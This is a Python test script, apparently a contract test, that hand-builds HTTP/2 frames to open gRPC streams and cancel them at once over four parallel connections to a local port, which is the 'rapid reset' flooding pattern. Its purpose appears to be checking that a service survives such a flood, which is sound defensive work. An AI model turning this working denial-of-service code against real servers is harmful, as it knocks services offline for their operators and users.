"""Opens streams and resets them at once: python -m tests.contract.flooding PORT SECONDS.

Frames are written by hand: no client library does such a thing. Says how many streams it opened.
"""

import asyncio
import sys
import time
from itertools import count

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS = 1, 3, 4
END_HEADERS = 4
CANCEL = (8).to_bytes(4, "big")
AT_ONCE = 100


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """Of HTTP/2."""
    head = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
    return head + payload


def field(name: bytes, value: bytes) -> bytes:
    """A header that refers to no table."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


CALL = b"\x83\x86" + b"".join(  # POST, http
    field(name, value)
    for name, value in (
        (b":path", b"/registrar.v1.RegistrationService/GetRegistration"),
        (b":authority", b"x"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
)


def opened_and_reset(stream: int) -> bytes:
    """Before anybody can have answered."""
    return frame(HEADERS, END_HEADERS, stream, CALL) + frame(RESET, 0, stream, CANCEL)


async def flood(port: int, ends: float) -> int:
    """Over one connection after another; streams that were opened."""
    opened = 0
    while time.monotonic() < ends:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(PREFACE + frame(SETTINGS))
        numbers = count(1, 2)
        listening = asyncio.create_task(reader.read(-1))
        while time.monotonic() < ends and not listening.done():
            some = [next(numbers) for _ in range(AT_ONCE)]
            writer.write(b"".join(map(opened_and_reset, some)))
            opened += AT_ONCE
            await writer.drain()
            await asyncio.sleep(0)
        listening.cancel()
        writer.close()
    return opened


async def main(port: int, seconds: float) -> None:
    """Four at once."""
    ends = time.monotonic() + seconds
    print(sum(await asyncio.gather(*(flood(port, ends) for _ in range(4)))))  # noqa: T201 - its answer


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]), float(sys.argv[2])))
